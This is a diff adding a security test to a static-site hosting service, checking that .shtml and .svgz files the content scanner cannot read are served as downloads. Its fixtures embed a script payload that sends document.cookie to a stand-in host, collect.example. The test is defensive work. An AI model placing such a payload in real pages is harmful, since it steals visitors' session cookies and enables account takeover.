@@ -6,6 +6,7 @@
  */
 import http from 'node:http';
 import net from 'node:net';
+import { DEFAULT_LIMITS } from '@sitehall/contracts';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { listenSitesPort } from '../src/lifecycle.js';
 import { SITE_SANDBOX_CSP } from '../src/serve/site-headers.js';
@@ -99,6 +100,60 @@ describe('the sites port', () => {
     const miss = await get(sitesPort, `/sites/${id}/nope`);
     expect(miss.status).toBe(404);
     expect(miss.headers.get('content-security-policy')).toBeNull();
+  });
+
+  it('sends an admin-allowed extension of a page’s or an SVG’s type as a download: the check reads those by extension', async () => {
+    // shtml is text/html and svgz image/svg+xml to the mime-types package, but the content check
+    // reads pages, SVGs and scripts only under their own extensions: shown, these would run unread
+    // (a page sending the visitor's cookies away checked clean). txt-like types stay as they are.
+    const admin = await t.adminToken();
+    const config = (allowed: readonly string[]) =>
+      t.request({
+        method: 'PUT',
+        url: '/api/admin/config',
+        token: admin,
+        body: { allowed_extensions: allowed },
+      });
+    expect((await config([...DEFAULT_LIMITS.allowedExtensions, 'shtml', 'svgz', 'log'])).statusCode).toBe(
+      200,
+    );
+    try {
+      const script = '<script>fetch("https://collect.example/?c=" + document.cookie)</script>';
+      const { id: site } = await liveProject(
+        t,
+        [
+          { name: 'index.html', content: '<p>x</p>' },
+          { name: 'page.shtml', content: `<!doctype html><html><body>${script}</body></html>` },
+          { name: 'icon.svgz', content: `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>` },
+          { name: 'server.log', content: 'started' },
+        ],
+        { name: '管理员加的类型' },
+      );
+      for (const name of ['page.shtml', 'icon.svgz']) {
+        const res = await get(sitesPort, `/sites/${site}/${name}`);
+        expect(res.status, name).toBe(200);
+        expect(res.headers.get('content-type'), name).toBe('application/octet-stream');
+        expect(res.headers.get('content-disposition'), name).toMatch(/^attachment;/);
+      }
+      // A type the check has nothing to read in, as the mime-types package names it.
+      const log = await get(sitesPort, `/sites/${site}/server.log`);
+      expect(log.headers.get('content-type')).toBe('text/plain');
+      const rows = await t.ctx.db
+        .selectFrom('deployment_files')
+        .innerJoin('projects', 'projects.live_deployment_id', 'deployment_files.deployment_id')
+        .select(['deployment_files.path', 'deployment_files.download_only'])
+        .where('projects.id', '=', site)
+        .orderBy('deployment_files.path')
+        .execute();
+      expect(rows.map((r) => [r.path, Number(r.download_only)])).toEqual([
+        ['icon.svgz', 1],
+        ['index.html', 0],
+        ['page.shtml', 1],
+        ['server.log', 0],
+      ]);
+    } finally {
+      expect((await config(DEFAULT_LIMITS.allowedExtensions)).statusCode).toBe(200);
+    }
   });
 
   it('sends download-only files and .xml as attachments with nosniff, from memory and a first request too', async () => {
